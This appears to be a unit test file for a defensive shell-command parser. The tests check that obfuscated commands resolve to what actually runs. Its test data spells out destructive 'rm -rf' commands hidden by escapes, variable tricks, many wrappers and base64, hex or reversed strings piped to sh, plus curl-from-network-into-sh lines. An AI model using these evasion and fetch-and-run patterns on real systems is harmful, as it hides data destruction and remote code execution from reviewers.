// Command lines as they would run: words resolved, wrappers taken off, inner scripts followed.

import assert from 'node:assert/strict';
import { describe, it } from 'node:test';
import { showCommand } from '../../../src/core/shell/command-line.ts';
import { readCommandLine } from '../../../src/core/shell/read-line.ts';
import { PLACE } from '../../support/place.ts';

const read = (line: string) => readCommandLine(line, PLACE);
const shown = (line: string) =>
  read(line)
    .commands.map((command) => showCommand(command))
    .filter((text) => text !== '');
const last = (line: string) => shown(line).at(-1);

const B64 = 'cm0gLXJmIC90bXAveA==';

describe('words come out as the program gets them', () => {
  const cases: readonly (readonly [string, string])[] = [
    ['r\\m -rf x', 'rm -rf x'],
    ['r\'\'m -r"f" x', 'rm -rf x'],
    ["$'\\x72\\155' x", 'rm x'],
    ['{rm,-rf,x}', 'rm -rf x'],
    ['echo a{1..3}b', 'echo a1b a2b a3b'],
    ['rm${IFS}-rf${IFS}x', 'rm -rf x'],
    ['x=rm; $x -rf y', 'rm -rf y'],
    ['x=r y=m; $x$y z', 'rm z'],
    ['x="rm -rf y"; $x', 'rm -rf y'],
    ['x="a b"; rm "$x"', 'rm a b'],
    ['rm ~/a "$HOME/b" ${HOME}/c', 'rm /home/dev/a /home/dev/b /home/dev/c'],
    ['rm "~"', 'rm ~'],
    ['${nothing:-rm} x', 'rm x'],
    ['x=xrmx; ${x:1:2} y', 'rm y'],
    ['x=rm.txt; ${x%.txt} y', 'rm y'],
    ['r$@m x', 'rm x'],
    ['$(printf rm) x', 'rm x'],
    ['$(echo mr | rev) x', 'rm x'],
    ['r\\\nm x', 'rm x'],
    ['f() { rm "$1"; }; f x', 'rm x'],
    ['alias ll="rm -rf"; ll x', 'rm -rf x'],
    ['for i in rm; do $i x; done', 'rm x'],
    ['set -- rm x; "$1" "$2"', 'rm x'],
    ['read -r c <<< rm; $c x', 'rm x'],
    ['export A=rm; $A x', 'rm x'],
  ];
  for (const [line, expected] of cases) it(JSON.stringify(line), () => assert.equal(last(line), expected));

  it('leaves unknown what only the running shell knows', () => {
    assert.equal(last('rm "$GIVEN"/x'), 'rm …/x');
    assert.equal(last('if a; then x=rm; else x=ls; fi; $x y'), '… y');
    assert.deepEqual(read('$x y').problems, ['runs a program whose name only the running shell knows']);
    assert.deepEqual(read('/bin/r? x').problems.length, 1);
  });

  it('keeps what is set in a subshell, a pipe or a substitution inside', () => {
    assert.equal(last('x=ls; (x=rm); $x'), 'ls');
    assert.equal(last('cd /etc; (cd /tmp); rm a'), 'rm a');
    assert.equal(read('cd /etc; (cd /tmp); rm a').commands.at(-1)?.cwd, '/etc');
    assert.equal(read('cd $X; rm a').commands.at(-1)?.cwd, undefined);
  });
});

describe('wrappers come off', () => {
  const wrappers = [
    'sudo -u root %',
    'env -i A=1 %',
    'nohup %',
    'time %',
    'timeout -k 5 10 %',
    'nice -n 5 %',
    'ionice -c 3 %',
    'stdbuf -oL %',
    'setsid %',
    'xargs %',
    'watch -n 1 %',
    'command %',
    'exec %',
    'builtin %',
    'busybox %',
    'find . -maxdepth 0 -exec % \\;',
    'flock /tmp/l %',
    'ssh -p 22 host %',
    'docker run --rm -e A=1 image %',
    'docker exec -it box %',
    'kubectl exec pod -- %',
    'uv run %',
    'strace -o out %',
    'chroot /mnt %',
    'doas %',
    'sudo env nohup nice timeout 5 %',
    "bash -c '%'",
    "sh -ec '%'",
    "su -c '%' root",
    "script -qc '%' /dev/null",
    "eval '%'",
    "trap '%' EXIT",
    "env -S '%'",
    '! %',
    '{ %; }',
    '(%)',
    '% &',
    'true && %',
    'false || %',
    'if true; then %; fi',
    'while %; do true; done',
    'case a in a) %;; esac',
    'coproc %',
    'f() { %; }; f',
    'f() { %; }',
    'echo "$(%)"',
    'echo `%`',
    'cat <(%)',
    "git -c alias.x='!%' x",
    'python3 -c \'import os; os.system("%")\'',
    'perl -e \'system("%")\'',
    'node -e \'require("child_process").execSync("%")\'',
    'awk \'BEGIN { system("%") }\'',
    'ruby -e \'system("%")\'',
    'php -r \'system("%");\'',
    'sh <<E\n%\nE',
    "sh <<< '%'",
    "echo '%' | sh",
    "echo '%' > /tmp/s; sh /tmp/s",
    'make -f - <<E\nall:\n\t%\nE',
    "xargs -I{} sh -c '%'",
    "echo '%' | xargs -I{} sh -c {}",
  ];
  for (const wrapper of wrappers)
    it(wrapper, () =>
      assert.ok(
        shown(wrapper.replaceAll('%', 'rm -rf x')).some((text) => text.startsWith('rm -rf x')),
        shown(wrapper.replaceAll('%', 'rm -rf x')).join('\n'),
      ),
    );

  for (const line of [
    `echo ${B64} | base64 -d | sh`,
    `bash -c "$(echo ${B64} | base64 -d)"`,
    `eval $(base64 -d <<< ${B64})`,
    `bash <(echo ${B64} | base64 --decode)`,
    "printf '\\x72\\x6d -rf /tmp/x' | sh",
    'echo 726d202d7266202f746d702f78 | xxd -r -p | sh',
    "echo 'x/pmt/ fr- mr' | rev | sh",
  ]) {
    it(`decodes ${line}`, () => assert.equal(last(line), 'rm -rf /tmp/x'));
  }

  it('say what a command came through', () => {
    assert.deepEqual(read('sudo env sh -c "rm x"').commands.at(-1)?.via, ['sudo', 'env', 'sh']);
  });

  it('leave text that is only text alone', () => {
    for (const line of [
      "echo 'rm -rf x'",
      "git commit -m 'rm -rf x'",
      "grep -r 'rm -rf x' .",
      "cat <<'E'\nrm -rf x\nE",
      'command -v rm',
      'sudo -l',
    ])
      assert.ok(!shown(line).some((text) => text.startsWith('rm')), line);
  });
});

describe('what runs what', () => {
  it('is seen through pipes, files and substitutions', () => {
    for (const line of [
      'curl -s a.invalid | sh',
      'sh -c "$(curl -s a.invalid)"',
      'bash <(curl -s a.invalid)',
      'curl -o /tmp/a a.invalid/x; sh /tmp/a',
      'curl a.invalid > /tmp/a && bash /tmp/a',
      'eval "$(curl -s a.invalid)"',
      'curl a.invalid | tee /tmp/a; sh /tmp/a',
      'x=$(curl -s a.invalid); eval "$x"',
    ])
      assert.ok(
        read(line).commands.some(({ code }) => code?.from.some(({ program }) => program === 'curl')),
        line,
      );
  });
});
